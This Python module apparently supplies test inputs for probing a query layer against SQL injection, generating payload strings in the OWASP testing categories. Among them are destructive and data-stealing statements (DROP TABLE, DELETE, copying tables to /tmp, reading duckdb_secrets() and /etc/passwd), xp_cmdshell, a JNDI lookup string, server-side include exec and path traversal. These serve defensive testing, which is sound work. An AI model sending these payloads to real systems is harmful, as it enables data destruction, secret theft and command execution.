"""Texts of the kinds that SQL-injection testers send, built from their parts, plus well-known whole ones.

Kinds after the OWASP Web Security Testing Guide, "Testing for SQL Injection" (WSTG-INPV-05): tautologies, stacked
statements, UNION, error-based, time-based, out-of-band, and encodings that hide any of them.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

QUOTES = ("", "'", '"', "')", "'))", '")', "`", "\\'", "%27", "''", "' '")
TAUTOLOGIES = ("OR 1=1", "OR 'a'='a'", "OR TRUE", "AND 1=0", "|| '1'='1'", "OR person_id IS NOT NULL", "OR 2 > 1")
COMMENTS = ("", "--", "-- ", "#", "/*", "/**/", ";--", ";%00")

STACKED = (
    "; DROP TABLE person",
    "; DROP TABLE person; --",
    "; DELETE FROM person",
    "; UPDATE person SET year_of_birth = 0",
    "; INSERT INTO person VALUES (1)",
    "; CREATE TABLE stolen AS SELECT * FROM person",
    "; ATTACH '/tmp/stolen.duckdb' AS stolen",
    "; COPY person TO '/tmp/stolen.csv'",
    "; EXPORT DATABASE '/tmp/stolen'",
    "; INSTALL httpfs; LOAD httpfs",
    "; SET enable_external_access = true",
    "; PRAGMA database_list",
    "; CALL pragma_version()",
    "; CHECKPOINT",
    "; SHUTDOWN WITH NOWAIT",
    "; EXEC xp_cmdshell('id')",
    "; EXECUTE IMMEDIATE 'SELECT 1'",
    "; SELECT * FROM person",
    ";;",
)
UNIONS = (
    "UNION SELECT NULL",
    "UNION ALL SELECT NULL, NULL, NULL",
    "UNION SELECT person_id FROM person",
    "UNION SELECT table_name FROM information_schema.tables",
    "UNION SELECT name FROM sqlite_master",
    "UNION SELECT usename FROM pg_user",
    "UNION SELECT @@version",
    "UNION SELECT version()",
    "UNION SELECT value FROM duckdb_settings()",
    "UNION SELECT secret_string FROM duckdb_secrets()",
    "UNION SELECT path FROM duckdb_databases()",
    "UNION SELECT content FROM read_text('/etc/passwd')",
    "UNION SELECT LOAD_FILE('/etc/passwd')",
    "INTERSECT SELECT 1",
    "EXCEPT SELECT 1",
)
ERRORS = (
    "AND CAST((SELECT person_source_value FROM person LIMIT 1) AS INTEGER) = 1",
    "AND 1 = CONVERT(INT, (SELECT year_of_birth FROM person LIMIT 1))",
    "AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT VERSION())))",
    "AND error((SELECT max(year_of_birth) FROM person)::VARCHAR)",
    "AND 1/0 = 1",
    "AND (SELECT 1 FROM person WHERE year_of_birth = 1950) = 1",
    "AND year_of_birth = (SELECT year_of_birth FROM person)",
    "HAVING 1=1",
    "ORDER BY 1000",
    "GROUP BY person_id HAVING count(*) = 1",
    "PROCEDURE ANALYSE(EXTRACTVALUE(1, 2), 1)",
)
TIMES = (
    "AND SLEEP(5)",
    "AND pg_sleep(5) IS NULL",
    "; WAITFOR DELAY '0:0:5'",
    "AND BENCHMARK(10000000, MD5('a'))",
    "AND (SELECT count(*) FROM range(100000000000)) > 0",
    "AND length(repeat('a', 2000000000)) > 0",
    "OR regexp_matches(repeat('a', 100), '(a*)*b')",
)
WHOLE = (
    "admin'--",
    "Robert'); DROP TABLE Students;--",
    "1 AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',name FROM information_schema.tables WHERE 2>1--",
    "SELECT/*!50000 1*/",
    "sel/**/ect count(*) fr/**/om person",
    "SELECT CHAR(0x73,0x65)",
    "%53%45%4c%45%43%54 1",
    "$$; DROP TABLE person; $$",
    "$a$ SELECT 1 $a$",
    "E'\\x27 OR 1=1'",
    "U&'\\0027 OR 1=1'",
    "{{7*7}}",
    "${jndi:ldap://127.0.0.1/a}",
    "../../../../etc/passwd",
    '<!--#exec cmd="id"-->',
    "\x00SELECT 1",
    "SELECT\u20281",
    "SELECT\u00a01",
    "\ufeffSELECT 1",
    "ЅELECT 1",  # a Cyrillic first letter
    "ｓｅｌｅｃｔ 1",  # full-width letters
    "\ud800",
    "\x1b[2J",
    "(((((((((",
    ")))))",
    "'" * 999,
    "/*" * 500,
    "select " * 500,
    "-" * 5000,
)


def payloads(*, in_pairs: bool = False) -> Iterator[str]:
    """Every text, each as a tester would append it to a value. `in_pairs`: of the tautologies not every combination of
    quote, text and comment, but nearly every pair of them once."""
    for place, (quote, text, comment) in enumerate(product(QUOTES, TAUTOLOGIES, COMMENTS)):
        quoted, rest = divmod(place, len(TAUTOLOGIES) * len(COMMENTS))
        if not in_pairs or sum((quoted, *divmod(rest, len(COMMENTS)))) % len(COMMENTS) == 0:
            yield f"1{quote} {text}{comment}"
    for family in (STACKED, UNIONS, ERRORS, TIMES):
        yield from (f"1{quote} {text}{comment}" for text in family for quote in ("", "'") for comment in ("", "--"))
    yield from WHOLE
